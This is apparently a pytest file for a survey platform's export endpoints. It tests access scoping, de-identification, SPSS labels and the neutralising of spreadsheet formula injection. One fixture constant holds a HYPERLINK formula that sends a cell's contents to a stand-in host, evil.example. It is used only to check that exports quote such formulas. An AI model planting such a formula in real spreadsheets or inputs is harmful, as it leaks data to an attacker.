"""Exports opened back with csv, openpyxl and pyreadstat and compared with the snapshot and DB."""

from __future__ import annotations

import csv
import io
from datetime import timedelta, timezone
from typing import Any

import openpyxl
import pyreadstat
import pytest
from fastapi.testclient import TestClient
from sqlalchemy.engine import Engine
from sqlmodel import Session, select

from api.exports.cells import BOM, Table, csv_chunks, inert
from api.exports.responses import pseudonym, response_columns, response_rows
from api.settings import Settings
from survey.questionnaire.model import load_default
from survey.storage.models import AuditEvent, Response, Wave
from survey.storage.responses import submit_response
from tests.support.factories import complete_answers, new_client_id, seed_minimal
from tests.support.staff import bearer, seed_staff, store_snapshot

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"点我领奖")'
BIG_GRID, SMALL_GRID = "幸福网格", "三号院"


@pytest.fixture
def app_engine(client: TestClient) -> Engine:
    engine: Engine = client.app.state.engine  # type: ignore[attr-defined]
    seed_staff(engine)
    store_snapshot(engine)
    return engine


def as_user(engine: Engine, who: str) -> dict[str, str]:
    return bearer(engine, who)


def read_csv(response: Any) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text
    assert response.content.startswith(BOM.encode("utf-8"))
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


def read_xlsx(response: Any) -> tuple[list[str], list[tuple[Any, ...]], Any]:
    assert response.status_code == 200, response.text
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    sheet = book.worksheets[0]
    rows = list(sheet.iter_rows(values_only=True))
    return [str(h) for h in rows[0]], rows[1:], sheet


def submit_answers(engine: Engine) -> None:
    """C1: 10 residents in a big grid, 3 in a small one, one of them writing a formula."""
    with Session(engine) as session:
        for i in range(13):
            answers = complete_answers(likert=2 + i % 4, rating=3 + i % 7)
            answers["grid"] = BIG_GRID if i < 10 else SMALL_GRID
            answers["D1.2"] = 9 if i == 0 else answers["D1.2"]
            if i == 12:
                answers["P2"] = EVIL
            elif i == 11:
                answers["P2"] = "楼道灯坏了三个月"
            submit_response(
                session=session,
                wave_code="W1",
                community_code="C1",
                client_id=new_client_id(),
                answers=answers,
            )


def test_inert_quotes_formula_starters_only() -> None:
    for risky in ("=1+2", "+86 138", "-2", "@SUM(A1)", "\tx", "\rx", EVIL):
        assert inert(risky) == "'" + risky
    for safe in ("正常回答", "a=b", "", 3, -2.5, None):
        assert inert(safe) == safe


def test_csv_is_written_in_chunks_with_a_bom() -> None:
    table = Table("t", ["a", "b"], ([i, f"={i}"] for i in range(5)))
    chunks = list(csv_chunks(table, chunk_rows=2))
    assert len(chunks) == 3
    assert chunks[0].startswith(BOM.encode("utf-8"))
    text = b"".join(chunks).decode("utf-8-sig")
    assert text.splitlines() == ["a,b", "0,'=0", "1,'=1", "2,'=2", "3,'=3", "4,'=4"]


def test_rankings_csv_and_xlsx_match_the_snapshot(client: TestClient, app_engine: Engine) -> None:
    headers = as_user(app_engine, "district")
    expected = client.get("/api/v1/waves/W1/rankings", headers=headers).json()["communities"]
    rows = read_csv(client.get("/api/v1/waves/W1/exports/rankings.csv", headers=headers))
    assert [r["社区代码 community code"] for r in rows] == [e["community"] for e in expected]
    by_code = {r["社区代码 community code"]: r for r in rows}
    c1 = by_code["C1"]
    assert (
        c1["排名 rank"],
        c1["排名区间 rank interval"],
        c1["指数 index (0–100)"],
        c1["等级 grade"],
        c1["社区 community"],
    ) == ("1", "1–2", "82.3", "良", "一号社区")
    assert c1["D1 党建引领"] == "79.8"  # 82.34 − 2.5, one decimal
    c2 = by_code["C2"]
    assert c2["指数 index (0–100)"] == c2["排名 rank"] == c2["等级 grade"] == ""
    assert c2["D1 党建引领"] == "" and c2["备注 note"] == "样本不足" and c2["样本量 n"] == "12"

    header, data, _ = read_xlsx(
        client.get("/api/v1/waves/W1/exports/rankings.xlsx", headers=headers)
    )
    table = [dict(zip(header, row, strict=True)) for row in data]
    assert [r["社区代码 community code"] for r in table] == ["C1", "C3", "C2"]
    assert table[0]["指数 index (0–100)"] == 82.3 and table[0]["排名 rank"] == 1
    assert table[1]["指数 index (0–100)"] == 74.1
    assert table[2]["指数 index (0–100)"] is None and table[2]["备注 note"] == "样本不足"


@pytest.mark.parametrize(
    ("who", "codes"), [("street", ["C1", "C2"]), ("other_street", ["C3"]), ("community", ["C1"])]
)
def test_ranking_exports_keep_to_the_scope(
    client: TestClient, app_engine: Engine, who: str, codes: list[str]
) -> None:
    rows = read_csv(
        client.get("/api/v1/waves/W1/exports/rankings.csv", headers=as_user(app_engine, who))
    )
    assert [r["社区代码 community code"] for r in rows] == codes


def test_scorecards_match_the_snapshot_and_the_scope(
    client: TestClient, app_engine: Engine
) -> None:
    q = load_default()
    n_indicators = 2 + len(q.dimensions) + 18 + len(q.main_items())
    rows = read_csv(
        client.get("/api/v1/waves/W1/exports/scorecards.csv", headers=as_user(app_engine, "street"))
    )
    assert {r["社区代码 community code"] for r in rows} == {"C1", "C2"}
    c1 = [r for r in rows if r["社区代码 community code"] == "C1"]
    assert len(c1) == n_indicators
    overall = c1[0]
    assert (
        overall["代码 code"],
        overall["得分 score (0–100)"],
        overall["等级 grade"],
        overall["排名 rank"],
    ) == ("overall", "82.3", "良", "1")
    d6 = next(r for r in c1 if r["代码 code"] == "D6")
    assert d6["得分 score (0–100)"] == str(round(82.34 + 2.5, 1)) and d6["指标 indicator"]
    item = next(r for r in c1 if r["代码 code"] == "D2.5")
    assert item["指标 indicator"] == q.item("D2.5").label.zh
    assert (item["满意比例% % positive"], item["不了解比例% % don't know"]) == ("71.2", "5.0")
    c2 = [r for r in rows if r["社区代码 community code"] == "C2"]
    assert len(c2) == 1 and c2[0]["得分 score (0–100)"] == "" and c2[0]["备注 note"] == "样本不足"

    mine = read_xlsx(
        client.get(
            "/api/v1/waves/W1/exports/scorecards.xlsx", headers=as_user(app_engine, "community")
        )
    )[1]
    assert {r[0] for r in mine} == {"C1"} and len(mine) == n_indicators
    for who in ("community", "street"):
        hidden = client.get(
            "/api/v1/waves/W1/exports/scorecards.csv?community=C3", headers=as_user(app_engine, who)
        )
        assert hidden.status_code == 404  # out of scope looks like "does not exist"
    missing = client.get(
        "/api/v1/waves/W1/exports/scorecards.csv?community=NOPE",
        headers=as_user(app_engine, "admin"),
    )
    assert missing.status_code == 404 and hidden.json() == {"detail": "no community with code 'C3'"}
    one = read_csv(
        client.get(
            "/api/v1/waves/W1/exports/scorecards.csv?community=C3",
            headers=as_user(app_engine, "other_street"),
        )
    )
    assert {r["社区代码 community code"] for r in one} == {"C3"}


def stored_rows(engine: Engine, settings: Settings) -> dict[str, Response]:
    with Session(engine) as session:
        rows = session.exec(select(Response)).all()
    return {pseudonym(settings.secret_key, "W1", r.id or 0): r for r in rows}


def test_response_csv_is_de_identified_and_faithful(
    client: TestClient, app_engine: Engine, settings: Settings
) -> None:
    submit_answers(app_engine)
    stored = stored_rows(app_engine, settings)
    response = client.get(
        "/api/v1/waves/W1/exports/responses.csv", headers=as_user(app_engine, "researcher")
    )
    rows = read_csv(response)
    assert len(rows) == 13 and set(stored) == {r["rid"] for r in rows}
    assert "client_id" not in rows[0] and "P2" not in rows[0] and "started_at" not in rows[0]
    everything = response.content.decode("utf-8-sig")
    for record in stored.values():
        assert record.client_id not in everything
    assert "HYPERLINK" not in everything and "楼道灯" not in everything
    for row in rows:
        record = stored[row["rid"]]
        china_day = record.submitted_at.astimezone(timezone(timedelta(hours=8))).date()
        assert row["submitted_date"] == china_day.isoformat()
        assert len(row["submitted_date"]) == 10
        assert (row["community"], row["street"], row["wave"]) == ("C1", "S1", "W1")
        for code in ("D1.1", "D1.2", "D2.5", "O1", "R2", "gender", "age_band"):
            assert row[code] == str(record.answers[code])
        assert row["P1_" + record.answers["P1"][0]] == "1"
        expected_grid = BIG_GRID if record.answers["grid"] == BIG_GRID else ""
        assert row["grid"] == expected_grid  # fewer than 10 in the small grid: withheld
    events = [e for e in _events(app_engine) if e.action == "export_responses"]
    assert [(e.actor, e.detail["format"]) for e in events] == [("researcher", "csv")]


def _events(engine: Engine) -> list[AuditEvent]:
    with Session(engine) as session:
        return list(session.exec(select(AuditEvent)).all())


def test_free_text_only_for_researchers_and_inert(client: TestClient, app_engine: Engine) -> None:
    submit_answers(app_engine)
    url = "/api/v1/waves/W1/exports/responses.{}?include_text=1"
    assert client.get(url.format("csv"), headers=as_user(app_engine, "admin")).status_code == 403
    rows = read_csv(client.get(url.format("csv"), headers=as_user(app_engine, "researcher")))
    texts = sorted(r["P2"] for r in rows if r["P2"])
    assert texts == sorted(["'" + EVIL, "楼道灯坏了三个月"])

    header, data, sheet = read_xlsx(
        client.get(url.format("xlsx"), headers=as_user(app_engine, "researcher"))
    )
    column = header.index("P2")
    cells = [row[column] for row in data if row[column]]
    assert "'" + EVIL in cells
    for excel_row in sheet.iter_rows(min_row=2):
        cell = excel_row[column]
        if cell.value:
            assert cell.data_type == "s"  # a string, never a formula


@pytest.mark.parametrize("who", ["district", "street", "community"])
def test_officials_cannot_download_response_data(
    client: TestClient, app_engine: Engine, who: str
) -> None:
    for fmt in ("csv", "xlsx", "sav"):
        url = f"/api/v1/waves/W1/exports/responses.{fmt}"
        assert client.get(url, headers=as_user(app_engine, who)).status_code == 403
    assert client.get("/api/v1/waves/W1/exports/responses.csv").status_code == 401
    assert (
        client.get(
            "/api/v1/waves/W1/exports/responses.pdf", headers=as_user(app_engine, "researcher")
        ).status_code
        == 422
    )


def test_spss_file_has_labels_and_the_answers(
    client: TestClient, app_engine: Engine, settings: Settings, tmp_path: Any
) -> None:
    submit_answers(app_engine)
    stored = stored_rows(app_engine, settings)
    response = client.get(
        "/api/v1/waves/W1/exports/responses.sav", headers=as_user(app_engine, "admin")
    )
    assert response.status_code == 200, response.text
    path = tmp_path / "w1.sav"
    path.write_bytes(response.content)
    frame, meta = pyreadstat.read_sav(str(path), user_missing=True)
    q = load_default()
    labels = dict(zip(meta.column_names, meta.column_labels, strict=True))
    assert labels["D1.1"] == q.item("D1.1").label.zh
    assert meta.variable_value_labels["D1.1"][9.0] == "不了解/不适用 / Don't know / not applicable"
    assert meta.variable_value_labels["D1.1"][5.0].startswith("非常同意")
    gender = q.item("gender")
    assert meta.variable_value_labels["gender"][1.0].startswith(gender.options[0].label.zh)  # type: ignore[union-attr]
    assert meta.missing_ranges["D1.2"] == [{"lo": 9.0, "hi": 9.0}]
    assert len(frame) == 13 and "P2" not in frame.columns
    for _, row in frame.iterrows():
        record = stored[row["rid"]]
        assert row["D1.2"] == record.answers["D1.2"]
        assert row["O1"] == record.answers["O1"]
        assert row["gender"] == q.option_index("gender", record.answers["gender"])
        assert row["grid"] == (BIG_GRID if record.answers["grid"] == BIG_GRID else "")


def test_codebook_describes_every_exported_column(client: TestClient, app_engine: Engine) -> None:
    submit_answers(app_engine)
    researcher = as_user(app_engine, "researcher")
    data = read_csv(client.get("/api/v1/waves/W1/exports/responses.csv", headers=researcher))
    book = read_csv(client.get("/api/v1/waves/W1/exports/codebook.csv", headers=researcher))
    assert [r["变量 variable"] for r in book] == list(data[0])
    by_name = {r["变量 variable"]: r for r in book}
    q = load_default()
    assert by_name["D2.5"]["标签 label (zh)"] == q.item("D2.5").label.zh
    assert by_name["D2.5"]["缺失值 missing codes"] == "9"
    assert "9 = 不了解/不适用" in by_name["D2.5"]["取值 values"]
    assert by_name["gender"]["SPSS 数值编码 SPSS codes"].startswith("1 = ")
    header, rows, _ = read_xlsx(
        client.get("/api/v1/waves/W1/exports/codebook.xlsx?include_text=1", headers=researcher)
    )
    assert "P2" in [r[0] for r in rows] and header[0] == "变量 variable"


def test_response_rows_on_sqlite_and_postgresql(engine: Engine) -> None:
    """The streaming query and the grid count (a JSON path in SQL) on both databases."""
    seed_minimal(engine)
    submit_answers(engine)
    q = load_default()
    with Session(engine) as session:
        wave = session.exec(select(Wave)).one()
        ids = [r.id for r in session.exec(select(Response)).all()]
    columns = response_columns(q, include_text=True)
    rows = list(response_rows(engine, wave=wave, columns=columns, secret="k"))
    assert sorted(r[0] for r in rows) == sorted(pseudonym("k", "W1", i or 0) for i in ids)
    grid = [c.name for c in columns].index("grid")
    assert sorted(r[grid] or "" for r in rows) == [""] * 3 + [BIG_GRID] * 10
